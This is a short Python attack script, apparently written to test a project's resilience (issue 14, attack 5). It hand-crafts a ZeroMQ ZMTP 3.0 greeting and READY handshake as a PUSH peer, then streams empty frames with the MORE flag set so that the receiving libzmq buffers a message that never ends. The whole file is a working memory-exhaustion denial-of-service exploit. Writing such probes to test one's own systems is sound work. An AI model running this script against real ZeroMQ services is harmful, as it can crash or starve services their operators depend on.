#!/usr/bin/env python3
"""An attacker that never ends a multipart message (issue 14, attack 5).

usage: endless_multipart.py HOST PORT SECONDS

Speaks ZMTP 3.0 itself over TCP (NULL mechanism, as a PUSH), because a
libzmq sender would itself hold back the frames of a message that never
ends. It then sends empty frames, each with MORE set, for SECONDS or until
the peer goes away: every frame is 2 bytes on the wire and a message
part (tens of bytes) that the receiving libzmq buffers until the message
ends, which it never does. Prints how much it sent.
"""
import socket
import sys
import time

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
sock = socket.create_connection((host, port))
# Greeting: signature, version 3.0, mechanism NULL, as-server 0, filler.
sock.sendall(b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31)
name, value = b"Socket-Type", b"PUSH"
ready = b"\x05READY" + bytes([len(name)]) + name + len(value).to_bytes(4, "big") + value
sock.sendall(b"\x04" + bytes([len(ready)]) + ready)
# Empty frames with MORE set (flags 0x01, size 0).
chunk = b"\x01\x00" * (512 * 1024)
sent = 0
deadline = time.monotonic() + seconds
try:
    while time.monotonic() < deadline:
        sock.sendall(chunk)
        sent += len(chunk)
except OSError as error:
    print(f"endless_multipart: the peer went away ({error.strerror or error})")
print(f"endless_multipart: sent {sent >> 20} MiB ({sent // 2} frames) of one unfinished message")
